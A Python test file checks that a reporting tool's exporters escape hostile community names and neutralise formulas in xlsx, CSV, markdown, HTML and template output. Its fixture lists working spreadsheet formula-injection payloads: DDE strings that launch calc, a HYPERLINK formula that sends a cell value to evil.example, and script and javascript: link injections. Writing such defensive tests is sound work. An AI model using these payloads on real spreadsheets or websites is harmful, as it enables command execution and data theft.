"""Hostile community names and model strings written through every exporter,
each output opened again as its reader would: no formula in a workbook, no
cell a spreadsheet would run in a CSV, no HTML or link from data in markdown,
nothing unescaped in HTML."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from cli_helpers import zhili

from zhili.engine.report import safe
from zhili.engine.report.export import export_frame

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "plugins" / "four_type" / "sample.csv"

NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    '=cmd|"/c calc"!A1',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "[点我](javascript:alert(1))",
    "长\x1b[31m青\x07社区",
]


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory) -> Path:
    """The bundled sample with its first community names replaced."""
    rows = list(csv.reader(io.StringIO(SAMPLE.read_text(encoding="utf-8-sig"))))
    col = rows[0].index("社区")
    for row, name in zip(rows[1:], NAMES, strict=False):
        row[col] = name
    path = tmp_path_factory.mktemp("hostile") / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


def _no_formulas(path: Path) -> list[str]:
    """Every worksheet part of an xlsx: no `<f>` element anywhere."""
    with zipfile.ZipFile(path) as zf:
        parts = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        return [n for n in parts if re.search(rb"<f[ >]", zf.read(n))]


def _texts(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path)
    return [
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]


def test_xlsx_report_holds_the_names_as_text(hostile_csv, tmp_path):
    out = tmp_path / "r.xlsx"
    result = zhili("report", "four_type", hostile_csv, "-o", out, "--no-record")
    assert result.exit_code == 0, result.output
    assert _no_formulas(out) == []
    texts = _texts(out)
    for name in NAMES[:5]:
        assert name in texts
    assert "长[31m青社区" in texts  # control characters removed, the name kept


def _csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_csv_report_cells_cannot_run(hostile_csv, tmp_path):
    out = tmp_path / "r.csv"
    assert zhili("report", "four_type", hostile_csv, "-o", out, "--no-record").exit_code == 0
    cells = _csv_cells(out.read_text(encoding="utf-8-sig"))
    assert not [c for c in cells if c.startswith(safe.FORMULA_START)]
    for name in NAMES[:5]:
        assert "'" + name in cells


def test_markdown_report_has_no_html_or_links_from_data(hostile_csv, tmp_path):
    out = tmp_path / "r.md"
    assert zhili("report", "four_type", hostile_csv, "-o", out, "--no-record").exit_code == 0
    text = out.read_text(encoding="utf-8")
    assert "<script" not in text and "](javascript" not in text.replace("\\]", "")
    assert "&lt;script&gt;" in text


def test_html_report_escapes_the_names(hostile_csv, tmp_path):
    out = tmp_path / "r.html"
    assert zhili("report", "four_type", hostile_csv, "-o", out, "--no-record").exit_code == 0
    text = out.read_text(encoding="utf-8")
    assert "<script>alert" not in text and "&lt;script&gt;alert(1)&lt;/script&gt;" in text


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_keeps_numbers_and_neutralises_text(tmp_path, suffix):
    frame = pl.DataFrame({"社区": NAMES, "总分": [-1.5] * len(NAMES)})
    out = export_frame(frame, tmp_path / f"view{suffix}")
    if suffix == ".csv":
        back = pl.read_csv(out, infer_schema_length=0)
        assert back.get_column("总分").to_list() == ["-1.5"] * len(NAMES)
        assert not [c for c in back.get_column("社区") if c.startswith(safe.FORMULA_START)]
    else:
        assert _no_formulas(out) == []
        values = pl.read_excel(out).get_column("总分").to_list()
        assert values == [-1.5] * len(NAMES)


def test_a_template_of_a_hostile_model_has_no_formula(tmp_path):
    model = tmp_path / "model.gov"
    model.write_text(
        """model hostile "=HYPERLINK(\\"http://evil.example\\",\\"x\\")"
version "1"
issuer "=cmd|' /C calc'!A0"
source "@SUM(1)"
total 10

input n: int label "=1+1" unit "@人"

indicator a "+A" points 10 {
    pass when n >= 1
}

grades {
    "-好" when total >= 5
    "差" otherwise
}
""",
        encoding="utf-8",
    )
    out = tmp_path / "t.xlsx"
    result = zhili("template", model, "-o", out)
    assert result.exit_code == 0, result.output
    assert _no_formulas(out) == []
    assert any(t.startswith("=1+1") for t in _texts(out))


def test_eval_csv_cells_cannot_run(hostile_csv, tmp_path):
    out = tmp_path / "results.csv"
    result = zhili("eval", "four_type", hostile_csv, "-o", out, "--no-record")
    assert result.exit_code == 0, result.output
    cells = _csv_cells(out.read_text(encoding="utf-8-sig"))
    assert not [c for c in cells if c.startswith(safe.FORMULA_START)]
    assert "'" + NAMES[0] in cells


@pytest.mark.parametrize(
    "args",
    [
        ("eval", "four_type", "-o", "{dir}/results.xlsx"),
        ("eval", "four_type", "-o", "{dir}/results.html"),
        ("sample", "four_type", "-o", "{dir}/sample.parquet"),
        ("sample", "four_type", "-o", "{dir}/sample.xlsx"),
    ],
)
def test_a_suffix_the_command_cannot_write_is_refused(tmp_path, args):
    argv = [a.format(dir=tmp_path) for a in args]
    result = zhili(*argv, "--no-record") if args[0] == "eval" else zhili(*argv)
    assert result.exit_code == 2, result.output
    assert "cannot write" in result.stderr
    assert list(tmp_path.iterdir()) == []
